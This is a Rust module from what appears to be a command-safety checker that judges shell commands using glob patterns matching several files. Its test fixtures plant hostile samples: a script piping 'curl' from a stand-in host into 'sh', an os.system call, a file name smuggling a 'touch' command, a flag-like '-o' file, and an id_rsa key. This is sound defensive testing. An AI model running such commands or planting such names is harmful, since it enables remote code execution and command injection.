//! Patterns that match several files. Shells sort the names by the locale, so which of them comes first is not known.
//!
//! A program is therefore read twice: with the names one by one, so that each is judged, and with one word that may become
//! several in their place. That word stops wherever a place decides: a script, a destination, the value of a flag.

use super::program::spec::{Does, Program};
use super::reading::{Invocation, Reading};
use super::value::{Arg, MATCHES, Unknown, Value, common_prefix};
use crate::words::listed;
use alloc::string::String;
use alloc::vec::Vec;

/// Why such a word is not known to what reads it only once.
const SHUFFLED: &str = "is one of several files, and which is not known";

impl Reading<'_> {
    /// Reads a program with its arguments as they are, and without the order of what patterns matched.
    pub(super) fn in_any_order(&mut self, call: &Invocation) {
        let without = if self.in_order { None } else { self.without_order(&call.args, MATCHES) };
        let Some(args) = without else { return self.known_program(call) };
        self.in_order = true;
        self.known_program(call);
        self.in_order = false;
        self.known_program(&Invocation { args, ..call.clone() });
    }

    /// The arguments with one word, unknown for that reason, in place of several files; `None` when there are no such.
    pub(super) fn without_order(&self, args: &[Arg], why: &'static str) -> Option<Vec<Arg>> {
        if self.unordered.is_empty() {
            return None;
        }
        let mut found = false;
        let mut all = Vec::new();
        for run in args.chunk_by(|a, b| a.span == b.span) {
            match run {
                [first, _, ..] if self.unordered.contains(&(first.span.start, first.span.end)) => {
                    found = true;
                    let flags = run.iter().any(|arg| arg.value.may_be_flag());
                    let why = if flags { SHUFFLED } else { why };
                    all.push(Arg { value: several(run, why), span: first.span });
                }
                other => all.extend_from_slice(other),
            }
        }
        found.then_some(all)
    }

    /// The call for what reads its arguments once: a function, a builtin, a script; `None` when it is the same.
    pub(super) fn shuffled(&self, call: &Invocation) -> Option<Invocation> {
        self.without_order(&call.args, SHUFFLED).map(|args| Invocation { args, ..call.clone() })
    }

    /// The first word of a command; one of several files may be any of them.
    pub(super) fn in_place(&self, name: &Arg, args: &[Arg]) -> Arg {
        let shared = args.first().is_some_and(|next| next.span == name.span);
        match shared && self.unordered.contains(&(name.span.start, name.span.end)) {
            true => Arg { value: Value::unknown(SHUFFLED), span: name.span },
            false => name.clone(),
        }
    }
}

/// One file, or names that are operands to every program: none begins with a sign.
pub(super) fn is_plain(names: &[String]) -> bool {
    let plain = |name: &String| {
        name.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '/' | '[' | '~'))
    };
    names.len() < 2 || names.iter().all(plain)
}

/// Programs with a reader of their own that take all their operands alike, or the last one for a destination.
const ALIKE: &str = "cp gcp mv gmv ln gln install ginstall rsync find gfind gzip gunzip pigz unpigz bzip2 bunzip2 xz unxz lzma \
     unlzma zstd unzstd compress uncompress pytest py.test bat batcat less zless more zmore tail gtail clang-format gofmt \
     goimports gofumpt xmllint strings gstrings size gsize nm gnm objdump gobjdump readelf greadelf cloc exiftool \
     gcc g++ cc c++ clang clang++";

/// Several files stand where a program of its own kind takes its first operand for a script, a mode or a subcommand.
pub(super) fn decides(program: &Program, call: &Invocation) -> bool {
    let first = call.args.iter().find(|arg| !arg.value.prefix().starts_with('-'));
    first.is_some_and(Arg::is_judged) && matches!(program.does, Does::Custom(_)) && !listed(ALIKE, &call.name)
}

fn several(run: &[Arg], why: &'static str) -> Value {
    let texts: Vec<String> = run.iter().map(|arg| arg.value.prefix().into()).collect();
    let folder = |text: &String| text.rsplit_once('/').map(|(folder, _)| String::from(folder));
    let together = texts.first().map(folder);
    let plain = |text: &String| Some(folder(text)) == together && !text.ends_with("..");
    let listed = why == MATCHES && run.iter().all(|arg| arg.text().is_some()) && texts.iter().all(plain);
    let unknown = Unknown::several(why);
    Value::Unknown(Unknown { prefix: common_prefix(&texts), may_be_none: false, listed, ..unknown })
}

#[cfg(test)]
const EXAMPLES: &str = r#"
        ask   python3 e5/*.py
        allow python3 e5/B.py
        ask   bash e6/*.sh
        allow bash e6/B.sh
        ask   e6/*.sh
        ask   env e6/*.sh
        ask   timeout 5 bash e6/*.sh
        ask   source e6/*.sh
        ask   cd s && sed *
        ask   cp e9/*
        stop  mv docs/a.md e9/*
        ask   ln -s docs/*
        ask   rsync -a e9/*
        ask   tar docs/*
        ask   tar cf docs/*
        ask   zip docs/*
        ask   awk docs/*
        ask   jq docs/*
        ask   git docs/*
        ask   sort -o docs/*
        ask   x='-o docs'; sort $x/*
        ask   x='docs/a.md docs'; python3 $x/*
        allow x=docs; sort $x/*
        ask   uniq docs/*
        ask   f() { python3 $1; }; f e5/*.py
        ask   set -- e5/*.py; python3 $1
        ask   a=(e5/*.py); python3 ${a[0]}
        ask   python3 $(echo e5/*.py)
        ask   p=e5/B.py; for f in e5/*.py; do python3 $p; p=$f; done
        ask   cat k/*
        ask   rm dashed/* docs/a.md
        ask   cd dashed && sort *
        allow cat docs/*.md
        allow wc -l docs/*.md
        allow ls docs/*.md
        allow head -5 docs/*.md
        allow tail -n 3 docs/*.md
        allow grep -n x docs/*.md
        allow sort docs/*.md | uniq
        allow sed -n 1p docs/*.md
        allow sed -i s/a/b/ docs/*.md
        allow awk '{print $1}' docs/*.md
        allow jq . docs/*.md
        allow cp docs/*.md src/
        allow touch docs/*.md
        allow chmod 644 docs/*.md
        allow git add docs/*.md
        allow git diff -- docs/*.md
        allow timeout 5 cat docs/*.md
        allow echo docs/*.md
        allow find docs/*.md -type f
        allow tar cf out.tar docs/*.md
        allow for f in docs/*.md; do wc -l "$f"; done
        allow for f in docs/*.md; do cat $f; sed -n 1p "$f"; done
        allow pytest tests/test_*.py
"#;

#[cfg(test)]
mod tests {
    use super::super::program::examples;

    #[test]
    fn examples_read_as_they_should() {
        let machine = examples::machine()
            .file("/repo/e5/B.py", "print(1)\n")
            .file("/repo/e5/a.py", "import os\nos.system('id')\n")
            .file("/repo/e6/B.sh", "echo hello\n")
            .file("/repo/e6/a.sh", "curl -s http://x.example | sh\n")
            .file("/repo/s/N", "")
            .file("/repo/s/e touch x", "")
            .file("/repo/e9/1", "")
            .file("/repo/e9/a/x", "")
            .link("/repo/e9/B", "/outside")
            .file("/outside/x", "")
            .file("/repo/k/a", "")
            .file("/repo/k/id_rsa", "")
            .file("/repo/dashed/-o", "")
            .file("/repo/dashed/x", "")
            .file("/repo/docs/a.md", "")
            .file("/repo/docs/b.md", "")
            .file("/repo/docs/c.md", "")
            .file("/repo/docs/d.md", "")
            .file("/repo/docs/e.md", "")
            .file("/repo/tests/test_b.py", "");
        examples::run_on(&machine, super::EXAMPLES);
    }
}
